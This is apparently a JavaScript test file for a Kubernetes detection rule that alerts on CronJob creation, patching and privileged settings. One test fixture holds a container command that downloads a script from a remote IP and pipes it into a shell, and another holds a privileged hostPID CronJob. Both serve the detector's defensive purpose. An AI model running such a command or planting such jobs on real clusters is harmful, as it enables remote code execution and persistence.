import { cronJob, NGINX, write } from '../events.fixtures.js';
import { testDetection } from '../tester.js';
import detection from './index.js';

testDetection(detection, {
  valid: [
    {
      name: 'a Job is not scheduled',
      events: [
        write({
          resource: 'jobs',
          namespace: 'batch',
          body: { kind: 'Job', metadata: { name: 'migrate' }, spec: { template: { spec: { containers: [NGINX] } } } },
        }),
      ],
    },
    {
      name: 'a label patch does not touch the spec',
      events: [
        write({
          verb: 'patch',
          resource: 'cronjobs',
          namespace: 'ops',
          name: 'backup',
          body: { metadata: { labels: { team: 'ops' } } },
          response: cronJob('backup'),
        }),
      ],
    },
    {
      name: 'a dry run',
      events: [write({ resource: 'cronjobs', namespace: 'ops', body: cronJob('backup'), query: 'dryRun=All' })],
    },
  ],
  invalid: [
    {
      name: 'a person creates a CronJob',
      events: [
        write({
          resource: 'cronjobs',
          namespace: 'ops',
          body: cronJob('backup', {
            containers: [
              { name: 'job', image: 'alpine:3.20', command: ['sh', '-c', 'wget -qO- http://203.0.113.9/x | sh'] },
            ],
          }),
        }),
      ],
      alerts: [
        {
          techniques: ['MS-TA9014'],
          severity: 'medium',
          message:
            /^CronJob 'backup' in ops was created on schedule '\*\/5 \* \* \* \*', running alpine:3.20: it will run again on its own$/,
        },
      ],
    },
    {
      name: 'a CronJob with hostPID and a privileged container',
      events: [
        write({
          resource: 'cronjobs',
          namespace: 'ops',
          body: cronJob('cleanup', {
            hostPID: true,
            containers: [{ ...NGINX, securityContext: { privileged: true } }],
          }),
        }),
      ],
      alerts: [{ severity: 'high', message: /with privileged container 'nginx'; hostPID/ }],
    },
    {
      name: 'resuming a suspended CronJob',
      events: [
        write({
          verb: 'patch',
          resource: 'cronjobs',
          namespace: 'ops',
          name: 'backup',
          body: { spec: { suspend: false } },
          response: cronJob('backup'),
        }),
      ],
      alerts: [{ message: /^CronJob 'backup' in ops was patched on schedule/ }],
    },
  ],
});
